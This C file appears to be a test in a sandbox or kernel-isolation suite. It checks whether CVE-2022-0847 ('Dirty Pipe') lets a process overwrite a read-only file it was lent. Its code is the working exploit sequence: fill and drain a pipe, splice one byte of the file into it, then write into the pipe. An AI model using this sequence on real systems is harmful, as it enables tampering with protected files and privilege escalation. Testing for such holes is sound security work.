// SPDX-License-Identifier: GPL-2.0-only
// CVE-2022-0847: a page of a file is spliced into a pipe whose buffers may still
// be merged into, and what is written then lands in the file.
// Victims: host other
// Modes: guest bare
// (open: kernels from 5.17 on do not have the mistake)
#include "borrow.h"

int main(void)
{
	int lent = borrow('r'), pipes[2], i;
	off64_t from = 0;
	char page[4096] = "";

	if (lent < 0)
		refused("recvmsg");
	NEED(!pipe(pipes));
	for (i = 0; i < 16; i++)
		NEED(write(pipes[1], page, sizeof(page)) == sizeof(page));
	for (i = 0; i < 16; i++)
		NEED(read(pipes[0], page, sizeof(page)) == sizeof(page));
	if (splice(lent, &from, pipes[1], NULL, 1, 0) != 1)
		refused("splice");
	NEED(write(pipes[1], "dirty", 5) == 5);
	if (has_secret(lent))
		harmless("the file is as it was");
	worked("the file of the victim is written");
}
